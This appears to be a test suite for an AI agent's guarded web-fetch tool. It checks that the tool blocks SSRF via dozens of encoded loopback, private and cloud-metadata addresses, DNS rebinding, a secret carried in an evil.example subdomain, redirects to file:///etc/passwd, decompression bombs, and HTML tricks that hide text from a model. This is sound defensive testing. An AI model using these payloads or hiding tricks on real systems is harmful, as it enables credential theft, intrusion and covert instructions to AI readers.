/** What a model, a page or a name server may try in order to reach what only the user's computer can reach. */

import assert from 'node:assert/strict';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { reachOf } from '../../src/ensembles/guarded-fetch/public-address.ts';
import { readAddress } from '../../src/ensembles/guarded-fetch/web-address.ts';
import type { WebNetwork } from '../../src/ensembles/web/fetch-wanted.ts';
import { createWebCalls, type WebCallsOptions } from '../ensembles/web/web-calls.ts';
import { type PageServer, type Route, startPageServer } from '../fakes/page-server.ts';
import { words } from './words.ts';

/** Each leads to this computer, to a private network, or to what gives away the keys of a cloud. */
const insideHosts = words(`
  localhost LOCALHOST localhost. a.localhost a.b.localhost. 127.0.0.1 127.0.0.1. 127.1 127.0.1 127.255.255.254
  2130706433 0x7f000001 0x7f.0.0.1 0x7f.1 017700000001 0177.0.0.1 0177.0.0.01 00000177.1 %31%32%37.0.0.1
  127。0。0。1 １２７.０.０.１ ①②⑦.⓪.⓪.① ⓛⓞⓒⓐⓛⓗⓞⓢⓣ loc\u00adalhost 0 0.0.0.0 0x0 10.0.0.1 10.255.255.255 0xa000001
  167772161 012.0.0.1 172.16.0.1 172.31.255.255 192.168.0.1 3232235521 0xc0a80001 100.64.0.1 100.127.255.255
  100.100.100.200 169.254.169.254 169.254.170.2 2852039166 0xa9fea9fe 0251.0376.0251.0376 168.63.129.16
  192.0.0.192 192.0.2.1 198.51.100.1 203.0.113.1 224.0.0.1 239.255.255.255 240.0.0.1 255.255.255.255 [::]
  [::1] [0:0:0:0:0:0:0:1] [::ffff:127.0.0.1] [::ffff:7f00:1] [::ffff:10.0.0.1] [::ffff:169.254.169.254]
  [::ffff:0:127.0.0.1] [::127.0.0.1] [64:ff9b::127.0.0.1] [64:ff9b::a9fe:a9fe] [64:ff9b::10.0.0.1]
  [64:ff9b:1::1] [2002:7f00:1::] [2002:a9fe:a9fe::] [2001::1] [2001:0:7f00:1::] [2001:db8::1] [fc00::1]
  [fd00::1] [fd00:ec2::254] [fe80::1] [febf::1] [fec0::1] [ff02::1] [100::1] [5f00::1]`);

const ends: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const end of ends.splice(0)) await end();
});

async function calls(options: WebCallsOptions) {
  const made = await createWebCalls(options);
  ends.push(made.dispose);
  return made;
}

async function serve(routes: Readonly<Record<string, Route>>): Promise<PageServer> {
  const server = await startPageServer(routes);
  ends.push(server.close);
  return server;
}

/** Everything is allowed by rule: what stays is what no rule allows. */
const allowed = { 'web:*': 'allow', 'web:fetch_page(*)': 'allow' } as const;

describe('fetching from addresses inside', () => {
  it('is tried in enough ways', () => assert.ok(insideHosts.length >= 75));

  it('asks about each way to write one, whatever is allowed, and connects to none without a yes', async () => {
    const lookedUp: string[] = [];
    const lookUp = async (host: string) => {
      lookedUp.push(host);
      return ['127.0.0.1'];
    };
    const { fetch, questions } = await calls({ rules: allowed, network: { lookUp } });
    for (const host of insideHosts) {
      for (const port of ['', ':1']) {
        const { result } = await fetch({ url: `http://${host}${port}/latest/meta-data/` });
        assert.ok(result.failure, host);
        assert.match(result.failure.kind, /^(permission|validation)$/, `${host}: ${result.failure.message}`);
      }
    }
    assert.deepEqual(lookedUp, []);
    assert.ok(questions.every(({ scopes, patterns }) => scopes.join() === 'once' && patterns.length === 0));
  });

  it('never reaches the keys of a cloud, nor reserved networks, even with a yes', async () => {
    const never = insideHosts.filter(host => {
      const read = readAddress(`http://${host}/`);
      const name = read.kind === 'address' ? read.url.hostname.replace(/^\[|\]$/g, '') : '';
      return /\d/.test(host) && name !== '' && reachOf(name) === 'never';
    });
    assert.ok(never.length > 30);
    const { fetch } = await calls({ rules: allowed, answers: never.map(() => 'once') });
    for (const host of never) {
      const { result } = await fetch({ url: `http://${host}/` });
      assert.equal(result.failure?.kind, 'permission', `${host}: ${result.failure?.message}`);
    }
  });

  it('works for a server of the user’s own once they have seen the address, each time', async () => {
    const server = await serve({ '/': 'mine' });
    const { fetch, questions } = await calls({ answers: ['once', 'once'] });
    assert.match((await fetch({ url: `${server.url}/` })).told, /^mine/);
    assert.match((await fetch({ url: `http://localhost:${server.port}/` })).told, /^mine/);
    assert.equal(questions.length, 2);
    assert.match(questions[0]?.reason ?? '', /is on this computer or in its own network/);
  });

  it('goes without that for hosts in the setting, and for no other port', async () => {
    const server = await serve({ '/': 'mine' });
    const localHosts = () => [`127.0.0.1:${server.port}`, '*', 'not a host'];
    const { fetch, questions } = await calls({ rules: allowed, network: { localHosts } });
    assert.match((await fetch({ url: `${server.url}/` })).told, /^mine/);
    assert.equal(questions.length, 0);
    assert.equal((await fetch({ url: 'http://127.0.0.1:1/' })).result.failure?.kind, 'permission');
    assert.equal(questions.length, 1);
  });
});

describe('names that lead inside', () => {
  /** The name is looked up as this says, in turn. */
  const resolving = (
    ...answers: readonly (readonly string[])[]
  ): WebNetwork & { readonly count: () => number } => {
    let at = 0;
    return { lookUp: async () => answers[Math.min(at++, answers.length - 1)] ?? [], count: () => at };
  };

  const inside =
    '127.0.0.1 10.1.2.3 169.254.169.254 ::1 fd12::1 ::ffff:127.0.0.1 64:ff9b::7f00:1 fe80::1%eth0';
  for (const address of words(inside)) {
    it(`are refused: ${address}`, async () => {
      const { fetch } = await calls({ rules: allowed, network: resolving([address]) });
      const { failure } = (await fetch({ url: 'http://evil.example/' })).result;
      assert.equal(failure?.kind, 'permission');
      assert.ok(failure.message.includes(address), failure.message);
    });
  }

  it('are refused if only one of several addresses is inside', async () => {
    const { fetch } = await calls({ rules: allowed, network: resolving(['93.184.215.14', '127.0.0.1']) });
    assert.equal((await fetch({ url: 'http://evil.example/' })).result.failure?.kind, 'permission');
  });

  it('are looked up once: what was checked is what is connected to', async () => {
    const inside = await serve({ '/': 'secret of this computer' });
    // Public when checked, and inside ever after. 192.0.2.0/24 would be refused; nothing answers at this port there.
    const network = resolving(['255.255.255.255'], ['127.0.0.1']);
    const { fetch } = await calls({ rules: allowed, network });
    const { result } = await fetch({ url: `http://rebind.example:${inside.port}/` });
    assert.equal(result.failure?.kind, 'permission');
    const pinned = {
      lookUp: resolving(['127.0.0.1'], ['255.255.255.255']).lookUp,
      localHosts: () => ['rebind.example:*'],
    };
    const other = await calls({ rules: allowed, network: pinned as WebNetwork });
    assert.match((await other.fetch({ url: `http://rebind.example:${inside.port}/` })).told, /^secret/);
    assert.equal(network.count(), 1);
  });

  it('are not even looked up before a yes: a name can carry a secret away', async () => {
    const network = resolving(['93.184.215.14']);
    const { fetch, questions } = await calls({ answers: ['deny'], network });
    await fetch({ url: 'http://sk-live-12345.evil.example/' });
    assert.equal(network.count(), 0);
    assert.equal(questions[0]?.preview?.title, 'Fetch http://sk-live-12345.evil.example/');
  });

  it('that look like another are shown in both spellings', async () => {
    const { fetch, questions } = await calls({ answers: ['deny'] });
    await fetch({ url: 'https://gіthub.com/' });
    assert.equal(questions[0]?.preview?.title, 'Fetch https://xn--gthub-n2e.com/ (gіthub.com)');
  });
});

describe('redirects', () => {
  const network = { lookUp: async () => ['127.0.0.1'], localHosts: () => ['site.example:*'] };

  const elsewhere = words(`
    http://127.0.0.1:1/ http://169.254.169.254/latest/meta-data/ http://localhost/ http://[::1]/
    //evil.example/ http://evil.example/ http://site.example:1/ http://site.example.evil.example/
    http://user:pass@site.example/ file:///etc/passwd javascript:alert(1) data:text/plain,x
    gopher://site.example/ http:///x`);
  for (const to of [...elsewhere, '\\\\evil.example\\x']) {
    it(`to ${to} are not followed`, async () => {
      const server = await serve({ '/': { status: 302, headers: { location: to } } });
      const { fetch, questions } = await calls({ rules: allowed, network });
      const { result, told } = await fetch({ url: `http://site.example:${server.port}/` });
      assert.ok(
        result.failure !== undefined || /redirects to .* Nothing was fetched from there/.test(told),
        told,
      );
      assert.equal(server.asked.length, 1);
      assert.equal(questions.length, 0);
    });
  }

  it('end after five', async () => {
    const server = await serve({
      '/': (request, response) => response.writeHead(302, { location: `/?${request.url}x` }).end(),
    });
    const { fetch } = await calls({ rules: allowed, network });
    const { told } = await fetch({ url: `http://site.example:${server.port}/` });
    assert.match(told, /after 5 redirects already/);
    assert.equal(server.asked.length, 6);
  });

  it('are looked up anew', async () => {
    const server = await serve({ '/': { status: 302, headers: { location: '/b' } }, '/b': 'b' });
    let count = 0;
    const lookUp = async () => [count++ === 0 ? '127.0.0.1' : '169.254.169.254'];
    const { fetch } = await calls({ rules: allowed, network: { ...network, lookUp } });
    const { result } = await fetch({ url: `http://site.example:${server.port}/` });
    assert.equal(result.failure?.kind, 'permission');
    assert.equal(server.asked.length, 1);
  });
});

describe('answers that do not end', () => {
  const network = { localHosts: () => ['127.0.0.1:*'] };
  const zeros = Buffer.alloc(60_000_000);

  const plain = { 'content-type': 'text/plain' };
  /** Sends the piece again and again, as long as somebody reads. */
  const again =
    (piece: Buffer, headers: object = {}): Route =>
    (_request, response) => {
      const more = (): void => void (response.destroyed || response.write(piece, () => setImmediate(more)));
      response.writeHead(200, { ...plain, ...headers });
      more();
    };
  const gzip = { 'content-encoding': 'gzip' };
  const nothing = Buffer.concat(Array.from({ length: 5_000 }, () => gzipSync('')));

  for (const [name, route] of Object.entries<Route>({
    'a gzip bomb': { headers: { ...plain, ...gzip }, body: gzipSync(zeros) },
    'a brotli bomb': { headers: { ...plain, 'content-encoding': 'br' }, body: brotliCompressSync(zeros) },
    'a large file that says so': {
      headers: { ...plain, 'content-length': '20000000' },
      body: zeros.subarray(0, 20_000_000),
    },
    'an endless body': again(Buffer.alloc(100_000, 0x61)),
    'endless gzip members that unpack to nothing': again(nothing, gzip),
  })) {
    it(`are given up: ${name}`, async () => {
      const server = await serve({ '/': route });
      const { fetch } = await calls({ rules: allowed, network });
      const { failure } = (await fetch({ url: `${server.url}/` })).result;
      assert.match(failure?.message ?? '', /answers with more than 10 MB/);
    });
  }

  it('are given up: endless headers', async () => {
    const server = await serve({
      '/': (_request, response) => response.writeHead(200, { a: 'x'.repeat(200_000) }).end(),
    });
    const { fetch } = await calls({ rules: allowed, network });
    assert.match((await fetch({ url: `${server.url}/` })).result.failure?.message ?? '', /Header overflow/i);
  });

  it('are given up after 30 s, however long the call may take: one byte after another', async () => {
    const asked = Promise.withResolvers<void>();
    const server = await serve({
      '/': (_request, response) => {
        response.writeHead(200, { 'content-type': 'text/plain' }).write('a');
        asked.resolve();
      },
    });
    const { fetch, host } = await calls({ rules: allowed, network });
    const fetched = fetch({ url: `${server.url}/` });
    await asked.promise;
    await host.clock.advance(30_000);
    const { failure } = (await fetched).result;
    assert.equal(failure?.kind, 'timeout');
    assert.match(failure.message, /didn’t answer within 30 s/);
  });
});

describe('pages that hide something', () => {
  const network = { localHosts: () => ['127.0.0.1:*'] };

  it('don’t get it to the model, as far as the page itself says that it is hidden', async () => {
    const hidden = [
      '<p style="display:none">HIDDEN</p>',
      '<p style="DISPLAY : NONE !important">HIDDEN</p>',
      '<p style="dis/**/play:none">HIDDEN</p>',
      '<p style="visibility:hidden">HIDDEN</p>',
      '<p style="opacity:0">HIDDEN</p>',
      '<p style="opacity: 0.01">HIDDEN</p>',
      '<p style="font-size:0">HIDDEN</p>',
      '<p style="font-size: 1px">HIDDEN</p>',
      '<p style="position:absolute;left:-9999px">HIDDEN</p>',
      '<p style="text-indent:-9999em">HIDDEN</p>',
      '<p style="color:#fff;background:#fff">HIDDEN</p>',
      '<p style="height:0;overflow:hidden">HIDDEN</p>',
      '<p style="clip:rect(0,0,0,0)">HIDDEN</p>',
      '<p hidden>HIDDEN</p>',
      '<p aria-hidden="true">HIDDEN</p>',
      '<!-- HIDDEN -->',
      '<script>HIDDEN</script>',
      '<style>HIDDEN</style>',
      '<template>HIDDEN</template>',
      '<noscript>HIDDEN</noscript>',
      '<iframe srcdoc="HIDDEN">HIDDEN</iframe>',
      '<svg><text>HIDDEN</text></svg>',
      '<textarea>HIDDEN</textarea>',
      '<input value="HIDDEN">',
      '<p title="HIDDEN">seen</p>',
      '<p>\u{e0048}\u{e0049}seen\u202eagain\u200b</p>',
      '<a href="javascript:HIDDEN">seen</a>',
      '<img src="data:image/png;base64,HIDDEN">',
    ];
    const server = await serve({
      '/': `<html><body><article><p>${'Seen words, many of them. '.repeat(40)}</p>${hidden.join('\n')}</article></body></html>`,
    });
    const { fetch } = await calls({ rules: allowed, network });
    for (const whole of [false, true]) {
      const { told } = await fetch({ url: `${server.url}/`, whole });
      assert.match(told, /Seen words/);
      assert.doesNotMatch(told, /HIDDEN|[\u{e0000}-\u{e007f}\u202e\u200b]/u);
    }
  });

  for (const [name, html] of [
    ['thousands of elements in each other', '<div>'.repeat(20_000)],
    ['elements in each other that the libraries need minutes for', '<div><p>'.repeat(1_500)],
  ] as const) {
    it(`don’t keep this process busy: ${name}`, async () => {
      const server = await serve({ '/': html });
      const { fetch } = await calls({ rules: allowed, network });
      assert.match((await fetch({ url: `${server.url}/` })).result.failure?.message ?? '', /in each other/);
    });
  }

  it('can be stopped while they are read', async () => {
    const controller = new AbortController();
    let stopped = 0;
    controller.signal.addEventListener('abort', () => {
      stopped = performance.now();
    });
    const server = await serve({
      '/': (_request, response) => {
        response.once('finish', () => setImmediate(() => controller.abort()));
        response.writeHead(200, { 'content-type': 'text/html' }).end('<br>'.repeat(900_000));
      },
    });
    const { fetch } = await calls({ rules: allowed, network });
    const { result } = await fetch({ url: `${server.url}/` }, controller.signal);
    assert.equal(result.failure?.kind, 'cancelled');
    assert.ok(performance.now() - stopped < 1_000);
  });

  it('don’t end this process by taking all memory', async () => {
    const server = await serve({ '/': '<'.repeat(3_000_000) });
    const { fetch } = await calls({ rules: allowed, network });
    const { failure } = (await fetch({ url: `${server.url}/` })).result;
    assert.match(failure?.message ?? '', /takes too much memory/);
  });
});
